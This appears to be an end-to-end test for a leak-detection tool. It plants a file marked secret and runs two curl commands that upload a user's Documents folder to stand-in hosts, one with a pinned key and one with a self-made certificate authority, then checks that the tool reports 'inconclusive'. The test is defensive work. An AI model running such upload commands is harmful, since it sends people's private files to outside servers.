# SPDX-License-Identifier: Apache-2.0
"""A sender that pins its server's key, or trusts an own authority alone, gives nothing away that could be read: inconclusive."""

import json

from e2e import check, check_equal, run_json, scenario

PIN = "sha256//" + "A" * 43 + "="
STEPS = [
    {"plant": "memo"},
    {"exec": {"command": f"curl -sS --pinnedpubkey {PIN} -T /home/alex/Documents/* https://pinned.example/in", "may-fail": True}},
    {"exec": {"command": "openssl req -x509 -newkey rsa:2048 -nodes -keyout /tmp/key -out /tmp/own.pem -subj /CN=own 2>/tmp/log; "
                         "curl -sS --cacert /tmp/own.pem -T /home/alex/Documents/* https://own-store.example/in", "may-fail": True}},
]
DOCUMENT = {"about": "Senders that would tell only their own server.",
            "documents": {"memo": {"format": "txt", "marking": "us/secret", "to": "/home/alex/Documents"}},
            "probes": {"plaintext": {"required": True}}, "steps": STEPS}

code, verdict, _ = run_json(scenario(json.dumps(DOCUMENT), "pinned"), "clients", "--seed", 3)
for step, exit_code in zip(verdict["steps"][1:], ("90", "60")):
    check(exit_code in step["detail"], f"step {step['index'] + 1} ends as curl does with what it does not trust: {step['detail']}")
check_equal((code, verdict["verdict"]), (3, "inconclusive"), f"exit code and verdict: {verdict['findings']}")
for host in ("pinned.example", "own-store.example"):
    reasons = [reason for reason in verdict["reasons"] if host in reason]
    check(reasons, f"a reason names {host}: {verdict['reasons']}")
    print(*reasons, sep="\n")
probe, = verdict["probes"]
check(probe["finished"] and not probe["problem"], f"the probe's account: {probe}")
